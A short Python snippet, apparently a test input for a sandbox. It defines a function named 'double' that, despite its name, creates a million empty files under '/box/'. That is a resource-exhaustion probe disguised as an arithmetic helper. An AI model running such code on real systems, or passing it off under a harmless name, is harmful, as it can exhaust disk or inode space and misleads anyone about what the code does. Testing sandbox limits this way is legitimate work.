def double(n):
    for number in range(10**6):
        open(f"/box/{number}", "w").close()


doubles = double
